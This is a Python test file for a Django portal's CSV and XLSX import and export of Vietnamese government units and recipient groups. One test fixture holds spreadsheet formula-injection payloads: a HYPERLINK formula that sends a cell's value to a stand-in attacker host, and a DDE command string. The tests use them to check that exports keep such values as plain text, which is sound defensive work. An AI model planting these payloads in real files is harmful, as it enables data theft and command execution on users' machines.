"""Import and export of units and group membership: all or nothing, and a faithful round trip."""

from __future__ import annotations

import csv
import io
import unicodedata

import lxml.html
import openpyxl
import pytest
from django.core.management import CommandError, call_command
from django.urls import reverse

from recipients.models import RecipientGroup, Unit
from recipients.services import groups_export, groups_import, units_export, units_import
from tests.factories import RecipientGroupFactory, UnitFactory

pytestmark = pytest.mark.django_db

HEADER = "code,name,kind,parent,contact_emails\n"
GOOD_ROWS = (
    "UBND.CHUPAH,Ủy ban nhân dân huyện Chư Păh,district_committee,,vanthu.chupah@gialai.gov.vn\n"
    "VHTT.CHUPAH,Phòng Văn hóa và Thông tin huyện Chư Păh,division,UBND.CHUPAH,\n"
)


def snapshot() -> list[tuple]:
    return list(
        Unit.objects.order_by("code").values_list(
            "code",
            "name",
            "short_name",
            "kind",
            "parent__code",
            "contact_emails",
            "head_title",
            "is_external",
            "is_active",
            "sort_order",
        )
    )


def csv_bytes(text: str) -> bytes:
    return text.encode("utf-8")


def cp1258(text: str) -> bytes:
    """Encode as Windows-1258 does: base letter (maybe with hat/horn/breve) + tone mark."""
    out = b""
    for char in text:
        try:
            out += char.encode("cp1258")
        except UnicodeEncodeError:
            decomposed = unicodedata.normalize("NFD", char)
            base = unicodedata.normalize("NFC", decomposed[:2])
            try:
                out += base.encode("cp1258") + decomposed[2:].encode("cp1258")
            except UnicodeEncodeError:
                out += decomposed[0].encode("cp1258") + decomposed[1:].encode("cp1258")
    return out


def test_good_file_creates_units_children_before_parents_too():
    # The child comes first in the file: the import orders parents first by itself.
    rows = GOOD_ROWS.splitlines(keepends=True)
    report = units_import(data=csv_bytes(HEADER + rows[1] + rows[0]), format="csv", dry_run=False)
    assert report.ok, report.error_lines()
    assert report.new == 2
    child = Unit.objects.get(code="VHTT.CHUPAH")
    assert child.parent.code == "UBND.CHUPAH"
    assert child.search_text.startswith("phong van hoa va thong tin huyen chu pah")


def test_dry_run_saves_nothing():
    report = units_import(data=csv_bytes(HEADER + GOOD_ROWS), format="csv", dry_run=True)
    assert report.ok and report.new == 2
    assert not Unit.objects.exists()


@pytest.mark.parametrize(
    ("bad_row", "column", "words"),
    [
        ("X.MOI,Đơn vị mới,division,KHONGCO,", "parent", "KHONGCO"),
        ("UBND.CHUPAH,Trùng mã,division,,", "code", "dòng 2"),
        ("X.MOI,Đơn vị mới,division,,vanthu@@gialai", "contact_emails", "vanthu@@gialai"),
        ("X.MOI,Đơn vị mới,phong_ban,,", "kind", "phong_ban"),
        ("x moi,Đơn vị mới,division,,", "code", "x moi"),
        ("X.MOI,,division,,", "name", "chưa nhập tên"),
    ],
    ids=["unknown-parent", "duplicate-code", "bad-email", "unknown-kind", "bad-code", "no-name"],
)
def test_one_bad_row_rejects_the_whole_file(bad_row, column, words):
    existing = UnitFactory(code="STTTT", name="Sở Thông tin và Truyền thông")
    before = snapshot()
    # Good rows 2-3, the bad row is row 4 of the spreadsheet (the header is row 1).
    data = csv_bytes(HEADER + GOOD_ROWS + bad_row + "\nSTTTT,Tên mới của Sở,department,,\n")
    report = units_import(data=data, format="csv", dry_run=False)
    assert not report.ok
    assert [(e.row, e.column) for e in report.errors] == [(4, column)]
    assert words.lower() in report.errors[0].message.lower()
    assert snapshot() == before
    existing.refresh_from_db()
    assert existing.name == "Sở Thông tin và Truyền thông"


def test_every_bad_row_is_reported_with_its_number():
    data = csv_bytes(
        HEADER
        + GOOD_ROWS
        + "A1,Một,division,NOPE,\n"  # row 4
        + "A2,Hai,nope,,\n"  # row 5
        + "A3,Ba,division,,a@b\n"  # row 6
        + "A1,Một lần nữa,division,,\n"  # row 7
    )
    report = units_import(data=data, format="csv", dry_run=False)
    assert sorted({e.row for e in report.errors}) == [4, 5, 6, 7]
    assert not Unit.objects.exists()


@pytest.mark.parametrize("encoding", ["cp1258", "latin-1"])
def test_file_in_a_legacy_encoding_is_rejected_with_its_rows(encoding):
    text = "code,name\nSTTTT,Sở Thông tin\nDAKDOA,Đak Đoa\nPLEIKU,Pleiku\n"
    if encoding == "latin-1":
        text = "code,name\nA,Ménard\nB,Plain\nC,Ðak\n"
    data = cp1258(text) if encoding == "cp1258" else text.encode(encoding)
    report = units_import(data=data, format="csv", dry_run=False)
    assert not report.ok
    bad_rows = [e.row for e in report.errors]
    assert bad_rows == ([2, 3] if encoding == "cp1258" else [2, 4])
    assert "UTF-8" in report.errors[0].message
    assert not Unit.objects.exists()


def test_utf8_with_bom_as_excel_writes_it_is_accepted():
    report = units_import(
        data=(HEADER + GOOD_ROWS).encode("utf-8-sig"), format="csv", dry_run=False
    )
    assert report.ok, report.error_lines()
    assert Unit.objects.count() == 2


def test_missing_code_column_is_reported():
    report = units_import(data=b"name\nMot\n", format="csv", dry_run=False)
    assert not report.ok and report.errors[0].row == 1
    assert "code" in report.errors[0].message


def test_unquoted_comma_is_reported_on_its_row():
    data = csv_bytes("code,name\nA,Một\nB,Sở Văn hóa, Thể thao\n")
    report = units_import(data=data, format="csv", dry_run=False)
    assert [e.row for e in report.errors] == [3]


def _province() -> None:
    sttt = UnitFactory(code="STTTT", name="Sở Thông tin và Truyền thông", head_title="GIÁM ĐỐC")
    UnitFactory(code="TTBCXB", name="Phòng TT-BC-XB", kind="division", parent=sttt, sort_order=2)
    UnitFactory(code="VPS", name="Văn phòng Sở", kind="division", parent=sttt, contact_emails="")
    UnitFactory(
        code="BTTTT",
        name="Bộ TT&TT",
        kind="ministry",
        is_external=True,
        contact_emails="a@mic.gov.vn, b@mic.gov.vn",
    )
    UnitFactory(code="CU", name="Đơn vị cũ", is_active=False, short_name="")


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_export_then_import_changes_nothing(fmt):
    _province()
    before = snapshot()
    data = units_export(format=fmt)
    report = units_import(data=data, format=fmt, dry_run=False)
    assert report.ok, report.error_lines()
    assert (report.new, report.updated, report.unchanged) == (0, 0, 5)
    assert snapshot() == before


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_export_imports_into_an_empty_portal(fmt):
    _province()
    before = snapshot()
    data = units_export(format=fmt)
    Unit.objects.filter(parent__isnull=False).delete()
    Unit.objects.all().delete()
    report = units_import(data=data, format=fmt, dry_run=False)
    assert report.ok, report.error_lines()
    assert report.new == 5
    assert snapshot() == before


def test_xlsx_with_a_bad_row_names_it():
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(["code", "name", "kind", "parent", "contact_emails"])
    sheet.append(["A", "Một", "division", None, None])
    sheet.append(["B", "Hai", "division", "KHONGCO", None])
    buffer = io.BytesIO()
    book.save(buffer)
    report = units_import(data=buffer.getvalue(), format="xlsx", dry_run=False)
    assert [(e.row, e.column) for e in report.errors] == [(3, "parent")]
    assert not Unit.objects.exists()


def _groups() -> None:
    _province()
    RecipientGroupFactory(
        code="so-nganh",
        name="Các Sở, ban ngành",
        kinds=["department"],
        units=list(Unit.objects.filter(code__in=["BTTTT", "VPS"])),
    )
    RecipientGroupFactory(code="rong", name="Nhóm rỗng")


def group_snapshot() -> list[tuple]:
    return [
        (g.code, g.name, g.description, g.kinds, sorted(u.code for u in g.members.all()))
        for g in RecipientGroup.objects.order_by("code").prefetch_related("members")
    ]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_group_membership_round_trip_changes_nothing(fmt):
    _groups()
    before = group_snapshot()
    report = groups_import(data=groups_export(format=fmt), format=fmt, dry_run=False)
    assert report.ok, report.error_lines()
    assert (report.new, report.updated, report.unchanged) == (0, 0, 2)
    assert group_snapshot() == before


def test_group_membership_import_sets_members_by_code():
    _groups()
    data = csv_bytes('code,name,kinds,members\nrong,Nhóm rỗng,press,"STTTT, ttbcxb"\n')
    report = groups_import(data=data, format="csv", dry_run=False)
    assert report.ok and report.updated == 1
    group = RecipientGroup.objects.get(code="rong")
    assert sorted(group.members.values_list("code", flat=True)) == ["STTTT", "TTBCXB"]
    assert group.kinds == ["press"]


def test_group_import_with_unknown_unit_saves_nothing():
    _groups()
    before = group_snapshot()
    data = csv_bytes(
        'code,name,kinds,members\nrong,Nhóm rỗng,,"STTTT"\nmoi,Nhóm mới,vv,"STTTT, KHONGCO"\n'
    )
    report = groups_import(data=data, format="csv", dry_run=False)
    assert sorted((e.row, e.column) for e in report.errors) == [(3, "kinds"), (3, "members")]
    assert "KHONGCO" in " ".join(report.error_lines())
    assert group_snapshot() == before


def test_admin_import_page_lists_the_bad_row_and_saves_nothing(client, administrator):
    client.force_login(administrator)
    before = snapshot()  # the administrator's own unit
    url = reverse("admin:recipients_unit_import")
    assert client.get(url).status_code == 200
    upload = io.BytesIO(csv_bytes(HEADER + GOOD_ROWS + "X.MOI,Mới,division,KHONGCO,\n"))
    upload.name = "units.csv"
    response = client.post(url, {"format": "0", "import_file": upload, "resource": "0"})
    assert response.status_code == 200
    page = response.content.decode()
    assert 'id="import-errors"' in page
    assert "KHONGCO" in page
    assert response.context["import_report"].errors[0].row == 4
    assert "confirm" not in page.lower().split('id="import-errors"')[1]
    assert snapshot() == before


def test_admin_import_page_explains_a_wrong_encoding(client, administrator):
    client.force_login(administrator)
    before = snapshot()
    upload = io.BytesIO(cp1258("code,name\nDAKDOA,Đak Đoa\n"))
    upload.name = "units.csv"
    response = client.post(
        reverse("admin:recipients_unit_import"), {"format": "0", "import_file": upload}
    )
    assert response.status_code == 200
    assert "UTF-8" in response.content.decode()
    assert snapshot() == before


def test_admin_import_then_confirm_saves(client, administrator):
    client.force_login(administrator)
    url = reverse("admin:recipients_unit_import")
    upload = io.BytesIO(csv_bytes(HEADER + GOOD_ROWS))
    upload.name = "units.csv"
    response = client.post(url, {"format": "0", "import_file": upload})
    confirm = response.context["confirm_form"]
    assert not Unit.objects.filter(code__endswith="CHUPAH").exists()  # the preview is a dry run
    response = client.post(
        reverse("admin:recipients_unit_process_import"),
        {name: confirm.initial.get(name) or confirm[name].value() for name in confirm.fields},
    )
    assert response.status_code == 302
    assert Unit.objects.filter(code__endswith="CHUPAH").count() == 2


def test_admin_export_downloads_csv(client, administrator):
    _province()
    client.force_login(administrator)
    response = client.post(
        reverse("admin:recipients_unit_export"),
        {
            "format": "0",
            "resource": "0",
            **{
                f"unitresource_{f}": "on"
                for f in [
                    "code",
                    "name",
                    "short_name",
                    "kind",
                    "parent",
                    "contact_emails",
                    "head_title",
                    "is_external",
                    "is_active",
                    "sort_order",
                ]
            },
        },
    )
    assert response.status_code == 200
    assert b"STTTT" in response.content


def test_import_command_refuses_a_bad_file_and_saves_a_good_one(tmp_path):
    bad = tmp_path / "units.csv"
    bad.write_bytes(csv_bytes(HEADER + GOOD_ROWS + "X,Mới,division,KHONGCO,\n"))
    err = io.StringIO()
    with pytest.raises(CommandError, match="nothing was imported"):
        call_command("importrecipients", "units", str(bad), stderr=err)
    assert "Dòng 4 [parent]" in err.getvalue()
    assert not Unit.objects.exists()
    good = tmp_path / "good.csv"
    good.write_bytes(csv_bytes(HEADER + GOOD_ROWS))
    out = io.StringIO()
    call_command("importrecipients", "units", str(good), stdout=out)
    assert "2 new" in out.getvalue() and Unit.objects.count() == 2


FORMULA_TEXTS = {
    "name": '=HYPERLINK("http://evil.example/?"&B2,"Sở")',
    "short_name": "@SUM(1+1)",
    "head_title": "+cmd|' /C calc'!A0",
}


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_exports_keep_formula_like_text_as_text_and_import_it_back(fmt):
    _province()
    UnitFactory(code="XAU", kind="other", **FORMULA_TEXTS)
    before = snapshot()
    data = units_export(format=fmt)
    if fmt == "xlsx":
        cells = [c for row in openpyxl.load_workbook(io.BytesIO(data)).active for c in row]
        assert [c.coordinate for c in cells if c.data_type == "f"] == []
        assert set(FORMULA_TEXTS.values()) <= {c.value for c in cells}
    else:
        values = [v for line in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for v in line]
        assert [v for v in values if v[:1] in ("=", "+", "-", "@", "\t", "\r")] == []
        assert {"'" + text for text in FORMULA_TEXTS.values()} <= set(values)
    # The portal's own file comes back unchanged: the apostrophe is not part of the name.
    report = units_import(data=data, format=fmt, dry_run=False)
    assert report.ok, report.error_lines()
    assert report.unchanged == 6 and snapshot() == before


def test_group_export_keeps_formula_like_text_as_text():
    RecipientGroupFactory(name="=1+1", code="nhom-cong-thuc")
    values = [
        v
        for line in csv.reader(io.StringIO(groups_export(format="csv").decode("utf-8-sig")))
        for v in line
    ]
    assert "'=1+1" in values and "=1+1" not in values
    cells = [
        c
        for row in openpyxl.load_workbook(io.BytesIO(groups_export(format="xlsx"))).active
        for c in row
    ]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []


def test_admin_export_keeps_formula_like_text_as_text(client, administrator):
    UnitFactory(code="XAU", **FORMULA_TEXTS)
    client.force_login(administrator)
    response = client.post(
        reverse("admin:recipients_unit_export"),
        {"format": "1", "resource": "0", "unitresource_code": "on", "unitresource_name": "on"},
    )
    assert response.status_code == 200
    cells = [c for row in openpyxl.load_workbook(io.BytesIO(response.content)).active for c in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    assert FORMULA_TEXTS["name"] in {c.value for c in cells}


# The administrators' template: Vietnamese column names, kinds in words, the format from the file.

VIETNAMESE_HEADER = "Mã đơn vị,Tên đơn vị,Loại đơn vị,Mã đơn vị cấp trên,Thư điện tử liên hệ\n"


def xlsx_bytes(rows: list[list]) -> bytes:
    book = openpyxl.Workbook()
    for row in rows:
        book.active.append(row)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def upload(data: bytes, name: str) -> dict:
    """What the browser posts: the file, and the hidden format field left empty."""
    file = io.BytesIO(data)
    file.name = name
    return {"import_file": file, "format": ""}


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_template_downloads_with_vietnamese_column_names(client, administrator, fmt):
    client.force_login(administrator)
    page = client.get(reverse("admin:recipients_unit_import")).content.decode()
    url = reverse("admin:recipients_unit_import_template", args=[fmt])
    assert f'href="{url}"' in page
    response = client.get(url)
    assert response.status_code == 200
    assert "attachment" in response["Content-Disposition"]
    if fmt == "csv":
        assert response.content.startswith("\ufeff".encode())  # Excel shows the accents
        header = next(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    else:
        book = openpyxl.load_workbook(io.BytesIO(response.content))
        header = [c.value for c in book.worksheets[0][1]]
        guide = [[c.value for c in row] for row in book.worksheets[1].iter_rows()]
        assert ["Mã đơn vị", "code", "có"] in guide
        assert ["Ủy ban nhân dân cấp huyện", "district_committee"] in [r[:2] for r in guide]
    assert header[:3] == ["Mã đơn vị", "Tên đơn vị", "Tên viết gọn"]
    assert "Loại đơn vị" in header and "Mã đơn vị cấp trên" in header
    assert not any(h in header for h in ("code", "name", "kind"))


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_a_filled_template_imports(client, administrator, fmt):
    """The template as downloaded, filled in by hand (kinds written in words), imports."""
    client.force_login(administrator)
    template = client.get(reverse("admin:recipients_unit_import_template", args=[fmt])).content
    if fmt == "csv":
        header = next(csv.reader(io.StringIO(template.decode("utf-8-sig"))))
    else:
        header = [c.value for c in openpyxl.load_workbook(io.BytesIO(template)).active[1]]
    rows = [
        {
            "Mã đơn vị": "UBND.CHUPAH",
            "Tên đơn vị": "UBND huyện Chư Păh",
            "Loại đơn vị": "UBND huyện",
        },
        {
            "Mã đơn vị": "VHTT.CHUPAH",
            "Tên đơn vị": "Phòng VH&TT huyện Chư Păh",
            "Loại đơn vị": "Phòng, đơn vị trực thuộc",
            "Mã đơn vị cấp trên": "UBND.CHUPAH",
        },
        {"Mã đơn vị": "SYT", "Tên đơn vị": "Sở Y tế", "Loại đơn vị": "Sở"},
    ]
    table = [header] + [[row.get(h, "") for h in header] for row in rows]
    if fmt == "csv":
        out = io.StringIO()
        csv.writer(out).writerows(table)
        data = out.getvalue().encode("utf-8")
    else:
        data = xlsx_bytes(table)
    report = units_import(data=data, format=fmt, dry_run=False)
    assert report.ok, report.error_lines()
    kinds = dict(
        Unit.objects.filter(code__in=[r["Mã đơn vị"] for r in rows]).values_list("code", "kind")
    )
    assert kinds == {
        "UBND.CHUPAH": "district_committee",
        "VHTT.CHUPAH": "division",
        "SYT": "department",
    }
    assert Unit.objects.get(code="VHTT.CHUPAH").parent.code == "UBND.CHUPAH"


@pytest.mark.parametrize(
    ("written", "kind"),
    [
        ("Sở, ban, ngành tỉnh", "department"),
        ("sở", "department"),
        ("UBND huyện", "district_committee"),
        ("Ủy ban nhân dân cấp huyện", "district_committee"),
        ("uy ban nhan dan tinh", "provincial_committee"),
        ("Cơ quan báo chí", "press"),
        ("press", "press"),
        ("District People's Committee", "district_committee"),
    ],
)
def test_kinds_are_read_in_vietnamese_or_as_codes(written, kind):
    data = csv_bytes(VIETNAMESE_HEADER + f'X,Đơn vị X,"{written}",,\n')
    report = units_import(data=data, format="csv", dry_run=False)
    assert report.ok, report.error_lines()
    assert Unit.objects.get(code="X").kind == kind


def test_vietnamese_headers_are_read_whatever_the_case_and_accents():
    data = csv_bytes("MÃ ĐƠN VỊ,ten don vi,Loại Đơn Vị\nX,Đơn vị X,Sở\n")
    report = units_import(data=data, format="csv", dry_run=False)
    assert report.ok, report.error_lines()
    assert Unit.objects.get(code="X").name == "Đơn vị X"


def test_an_unknown_column_is_an_error_naming_it_and_nothing_is_saved():
    before = snapshot()
    data = csv_bytes("Mã đơn vị,Tên đơn vị,Số điện thoại\nX,Đơn vị X,0269 3823 456\n")
    report = units_import(data=data, format="csv", dry_run=False)
    assert not report.ok
    assert [(e.row, e.column) for e in report.errors] == [(1, "Số điện thoại")]
    assert "Số điện thoại" in report.errors[0].message
    assert "Mã đơn vị" in report.errors[0].message  # the columns it could have been
    assert snapshot() == before


def test_the_same_column_twice_is_an_error():
    data = csv_bytes("code,Mã đơn vị,name\nX,Y,Đơn vị X\n")
    report = units_import(data=data, format="csv", dry_run=False)
    assert [(e.row, e.column) for e in report.errors] == [(1, "Mã đơn vị")]
    assert not Unit.objects.exists()


def test_a_group_file_in_vietnamese_imports():
    _province()
    data = csv_bytes(
        "Mã nhóm,Tên nhóm,Mọi đơn vị thuộc loại,Mã các đơn vị thành viên\n"
        'so-nganh,Các Sở,"Sở, ban, ngành tỉnh; Cơ quan báo chí","STTTT, BTTTT"\n'
    )
    report = groups_import(data=data, format="csv", dry_run=False)
    assert report.ok, report.error_lines()
    group = RecipientGroup.objects.get(code="so-nganh")
    assert group.kinds == ["department", "press"]
    assert sorted(group.members.values_list("code", flat=True)) == ["BTTTT", "STTTT"]


def test_the_group_template_has_vietnamese_column_names(client, administrator):
    client.force_login(administrator)
    response = client.get(reverse("admin:recipients_recipientgroup_import_template", args=["csv"]))
    header = next(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert header == [
        "Mã nhóm",
        "Tên nhóm",
        "Mô tả",
        "Mọi đơn vị thuộc loại",
        "Mã các đơn vị thành viên",
        "Thứ tự",
    ]


def test_the_admin_import_reads_the_format_from_the_file(client, administrator):
    """No format to choose: an XLSX goes through the preview and the confirmation."""
    client.force_login(administrator)
    url = reverse("admin:recipients_unit_import")
    page = lxml.html.fromstring(client.get(url).content.decode())
    assert not page.xpath("//select[@name='format']")
    data = xlsx_bytes(
        [
            ["Mã đơn vị", "Tên đơn vị", "Loại đơn vị"],
            ["UBND.CHUPAH", "UBND huyện Chư Păh", "UBND huyện"],
        ]
    )
    response = client.post(url, upload(data, "don-vi.xlsx"))
    assert response.status_code == 200
    confirm = response.context["confirm_form"]
    assert not Unit.objects.filter(code="UBND.CHUPAH").exists()
    response = client.post(
        reverse("admin:recipients_unit_process_import"),
        {name: confirm.initial.get(name) or confirm[name].value() for name in confirm.fields},
    )
    assert response.status_code == 302
    assert Unit.objects.get(code="UBND.CHUPAH").kind == "district_committee"
    # The result line is Vietnamese.
    page = client.get(response["Location"]).content.decode()
    assert "Đã nhập xong: 1 mới" in page


@pytest.mark.parametrize(
    ("data", "name", "words"),
    [
        (b"code,name\nX,Y\n", "don-vi.xlsx", "không phải bảng tính Excel"),
        (xlsx_bytes([["code", "name"], ["X", "Y"]]), "don-vi.csv", "đổi đuôi thành .xlsx"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 100, "don-vi.xls", "Excel cũ"),
        (b"code,name\nX,Y\n", "don-vi.ods", "không phải tệp CSV hay XLSX"),
    ],
)
def test_a_file_whose_name_and_content_disagree_is_refused(
    client, administrator, data, name, words
):
    client.force_login(administrator)
    before = snapshot()
    response = client.post(reverse("admin:recipients_unit_import"), upload(data, name))
    assert response.status_code == 200
    assert "confirm_form" not in response.context or response.context["confirm_form"] is None
    assert words in response.content.decode()
    assert snapshot() == before


def test_the_admin_shows_an_unknown_column_and_saves_nothing(client, administrator):
    client.force_login(administrator)
    before = snapshot()
    data = csv_bytes("Mã đơn vị,Tên đơn vị,Ghi chú\nX,Đơn vị X,thử\n")
    response = client.post(reverse("admin:recipients_unit_import"), upload(data, "don-vi.csv"))
    assert response.status_code == 200
    errors = lxml.html.fromstring(response.content.decode()).xpath("//tr[@class='import-error']")
    assert [" ".join(e.text_content().split()) for e in errors] == [
        "1 Ghi chú " + response.context["import_report"].errors[0].message
    ]
    assert snapshot() == before


def test_the_command_reads_the_format_from_the_file(tmp_path):
    wrong = tmp_path / "don-vi.xlsx"
    wrong.write_bytes(csv_bytes(VIETNAMESE_HEADER + "X,Đơn vị X,Sở,,\n"))
    with pytest.raises(CommandError, match="xlsx"):
        call_command("importrecipients", "units", str(wrong))
    good = tmp_path / "don-vi.csv"
    good.write_bytes(csv_bytes(VIETNAMESE_HEADER + "X,Đơn vị X,Sở,,\n"))
    call_command("importrecipients", "units", str(good))
    assert Unit.objects.get(code="X").kind == "department"
